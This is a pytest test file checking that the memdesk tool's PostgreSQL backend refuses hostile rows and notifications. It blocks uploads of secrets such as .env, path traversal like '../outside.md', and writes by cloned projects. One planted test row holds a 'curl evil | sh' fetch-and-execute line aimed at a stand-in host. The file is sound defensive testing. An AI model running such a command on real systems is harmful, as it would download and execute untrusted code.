"""Paths from the shared database are untrusted (issue 19): rows and notifications go through stage "what".

A hostile teammate (or a damaged database) can put any row under a project key and send any
notification on the channel. Neither may make memdesk upload a project file (``.env``) nor write a
file that is no memory document (``src/evil.py``, ``.fusion/config.json``): checked with a real
PostgreSQL server, a real watching backend and a real ``memdesk backend move`` process.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import psycopg
import pytest

from core.backends.pg.documents import CHANNEL
from core.backends.postgres import PostgresMemoryBackend
from core.errors import MemoryBackendError
from core.settings import load_settings, update_settings
from core.settings.connections import set_connection
from tests.conftest import REPO
from tests.core.pg_server import PgServer, project_key

MEM = ".fusion/memory.md"
SECRET = "AWS_SECRET_ACCESS_KEY=hunter2-do-not-upload\n"
HOSTILE_PATHS = (".env", "src/evil.py", ".fusion/config.json", "../outside.md", ".fusion/memdesk/history.db")


def open_backend(root: Path, key: str) -> PostgresMemoryBackend:
    b = PostgresMemoryBackend()
    b.initialize({"connection": "team", "projectKey": key, "mirror": True}, root)
    return b


def plant_row(pg: PgServer, key: str, path: str, content: str) -> None:
    """A row written straight into the shared table, as a hostile host (or a damaged database) could."""
    with psycopg.connect(pg.dsn(), autocommit=True) as conn:
        conn.execute("INSERT INTO memdesk_documents (project_key, path, content, hash, size, updated_by, source) "
                     "VALUES (%s, %s, %s, %s, %s, %s, %s) ON CONFLICT (project_key, path) DO UPDATE SET "
                     "content = EXCLUDED.content", (key, path, content, "0" * 64, len(content), "evil", "evil"))


def notify(pg: PgServer, key: str, path: str) -> None:
    payload = json.dumps({"projectKey": key, "path": path, "hash": "0" * 64, "origin": "evil-host"})
    with psycopg.connect(pg.dsn(), autocommit=True) as conn:
        conn.execute("SELECT pg_notify(%s, %s)", (CHANNEL, payload))


def rows(pg: PgServer, key: str) -> dict[str, str]:
    with psycopg.connect(pg.dsn()) as conn:
        return dict(conn.execute("SELECT path, content FROM memdesk_documents WHERE project_key = %s", (key,)))


@pytest.fixture
def key(pg_connection: str) -> str:
    return project_key()


def test_a_hostile_notification_never_uploads_a_project_file_nor_writes_one(pg: PgServer, project: Path,
                                                                              tmp_path: Path, key: str):
    (project / ".fusion").mkdir()
    (project / ".env").write_text(SECRET, encoding="utf-8")
    (project / MEM).write_text("# Project Memory\n", encoding="utf-8")
    a = open_backend(project, key)
    host_b = tmp_path / "host-b"
    host_b.mkdir()
    b = open_backend(host_b, key)
    arrived: list[str | None] = []
    done = threading.Event()

    def on_change(change) -> None:
        arrived.append(change.path)
        if change.path == MEM and not change.own:
            done.set()

    try:
        a.write("# Project Memory\n\n- ours\n")
        plant_row(pg, key, "src/evil.py", "import os; os.system('curl evil | sh')\n")
        handle = a.watch(on_change)
        for path in HOSTILE_PATHS:
            notify(pg, key, path)
        b.write("# Project Memory\n\n- ours\n\n- from B\n")  # a real change after them: they were all handled
        assert done.wait(15), f"the real change never arrived ({arrived})"
        handle.stop()
        held = rows(pg, key)
        assert ".env" not in held and all(SECRET not in text for text in held.values())
        assert not (project / "src").exists() and not (project.parent / "outside.md").exists()
        assert (project / ".env").read_text(encoding="utf-8") == SECRET
        assert not any(p in arrived for p in HOSTILE_PATHS)  # the app's callback never sees them
        assert sum("notification was skipped" in w for w in a.warnings) == len(HOSTILE_PATHS)
        assert (project / MEM).read_text(encoding="utf-8").endswith("- from B\n")  # the real one still works
    finally:
        a.shutdown()
        b.shutdown()


def test_a_row_that_is_no_document_is_refused_by_every_read_and_write(pg: PgServer, project: Path, key: str):
    (project / ".fusion").mkdir()
    (project / ".fusion" / "config.json").write_text("{}\n", encoding="utf-8")
    b = open_backend(project, key)
    try:
        for path in (".fusion/config.json", ".fusion/memdesk/history.db", ".fusion/notes.md"):
            for call in (lambda p=path: b.read_document(p), lambda p=path: b.write_document(p, "x\n"),
                         lambda p=path: b.append_document(p, lambda cur: "x\n")):
                with pytest.raises(MemoryBackendError) as info:
                    call()
                assert "not a memory document" in str(info.value) and "\n" not in str(info.value)
        assert rows(pg, key) == {}
        assert (project / ".fusion" / "config.json").read_text(encoding="utf-8") == "{}\n"
    finally:
        b.shutdown()


def test_backend_move_to_file_writes_memory_documents_only(pg: PgServer, project: Path, tmp_path: Path, key: str):
    config_dir = tmp_path / "user-config"
    env = {**os.environ, "MEMDESK_CONFIG_DIR": str(config_dir), "PYTHONPATH": str(REPO)}
    os.environ["MEMDESK_CONFIG_DIR"] = str(config_dir)
    try:
        set_connection("team", pg.dsn())
    finally:
        del os.environ["MEMDESK_CONFIG_DIR"]
    (project / ".fusion").mkdir()
    (project / MEM).write_text("# Project Memory\n\n- ours\n", encoding="utf-8")
    (project / ".fusion" / "config.json").write_text('{"maxConcurrent": 2}\n', encoding="utf-8")  # Fusion's
    move = [sys.executable, "-m", "core.cli", "backend", "move", "--project", str(project)]
    done = subprocess.run([*move, "--to", "postgres", "--connection", "team", "--project-key", key], env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    plant_row(pg, key, ".fusion/config.json", '{"memoryBackend": "file", "evil": true}\n')
    plant_row(pg, key, ".fusion/memdesk/history.db", "not a database\n")
    done = subprocess.run([*move, "--to", "file", "--json"], env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert set(report["skipped"]) == {".fusion/config.json", ".fusion/memdesk/history.db"}
    assert set(report["documents"]) == {MEM}
    assert (project / MEM).read_text(encoding="utf-8") == "# Project Memory\n\n- ours\n"
    config_after = json.loads((project / ".fusion" / "config.json").read_text(encoding="utf-8"))
    assert "evil" not in config_after and config_after.get("maxConcurrent") == 2
    assert load_settings(project).memory_backend == "file"
    db_file = project / ".fusion" / "memdesk" / "history.db"
    assert not db_file.exists() or db_file.read_bytes()[:15] == b"SQLite format 3"
    update_settings(project, {})  # the settings still load


def test_a_cloned_project_naming_another_projects_key_stays_read_only_until_confirmed(pg: PgServer, tmp_path: Path,
                                                                                       key: str):
    """A cloned repository's settings name the user's team connection and another project's key."""
    config_dir = tmp_path / "user-config"
    env = {**os.environ, "MEMDESK_CONFIG_DIR": str(config_dir), "PYTHONPATH": str(REPO)}

    def memdesk(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "core.cli", *args], env=env, capture_output=True, text=True,
                              timeout=120, input=stdin)

    os.environ["MEMDESK_CONFIG_DIR"] = str(config_dir)
    try:
        set_connection("team", pg.dsn())
    finally:
        del os.environ["MEMDESK_CONFIG_DIR"]
    ours = tmp_path / "ours"
    (ours / ".fusion").mkdir(parents=True)
    (ours / MEM).write_text("# Project Memory\n\n- our private plans\n", encoding="utf-8")
    assert memdesk("backend", "move", "--to", "postgres", "--connection", "team", "--project-key", key,
                   "--project", str(ours)).returncode == 0
    cloned = tmp_path / "cloned"
    (cloned / ".fusion").mkdir(parents=True)
    os.environ["MEMDESK_CONFIG_DIR"] = str(config_dir)
    try:  # what the cloned repository's settings say (written by whoever made it)
        update_settings(cloned, {"memoryBackend": "postgres",
                                 "memoryBackendConfig": {"connection": "team", "projectKey": key, "mirror": True}})
    finally:
        del os.environ["MEMDESK_CONFIG_DIR"]
    shown = memdesk("show", "--project", str(cloned), "--json")
    assert shown.returncode == 0, shown.stderr
    assert "our private plans" not in shown.stdout
    assert not (cloned / MEM).exists()  # nothing mirrored into the clone
    assert "not confirmed" in shown.stderr or "not confirmed" in shown.stdout
    appended = memdesk("append", "exfiltrated by the clone's agent", "--project", str(cloned))
    assert appended.returncode != 0
    assert "memory is read-only here" in appended.stderr.splitlines()[-1] and "memdesk backend confirm" in \
        appended.stderr.splitlines()[-1]
    assert "exfiltrated" not in rows(pg, key)[MEM]
    # The operator looks and confirms once: from then on it is the team memory of that folder.
    confirmed = memdesk("backend", "confirm", "--project", str(cloned))
    assert confirmed.returncode == 0 and key in confirmed.stdout
    shown = memdesk("show", "--project", str(cloned), "--json")
    assert "our private plans" in json.loads(shown.stdout)["content"]
